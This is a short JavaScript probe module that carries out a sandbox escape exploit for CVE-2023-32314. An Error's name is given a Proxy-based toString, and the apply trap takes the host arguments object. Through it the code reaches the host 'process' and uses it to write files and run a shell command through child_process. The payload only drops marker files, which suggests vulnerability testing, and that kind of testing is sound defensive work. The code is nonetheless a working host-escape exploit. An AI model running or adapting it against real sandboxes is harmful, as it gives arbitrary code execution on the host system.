// Escape attempt: CVE-2023-32314 (GHSA-whpj-8f3w-67p5): an error whose name.toString is a Proxy; its apply trap gets the host arguments object while the stack is formatted.
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-proxy-error-name',
  description: 'sandbox escape attempt: proxy-error-name',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    const err = new Error();
    err.name = { toString: new Proxy(() => "", { apply(target, thiz, args) { attempt(notes, "args", () => pwn(args.constructor.constructor("return process")(), marker, notes, "apply args")); return ""; } }) };
    attempt(notes, "stack", () => err.stack);
    attempt(notes, "host format", () => __send(err));
    return { summary: notes.join(' | '), data: notes };
  },
};
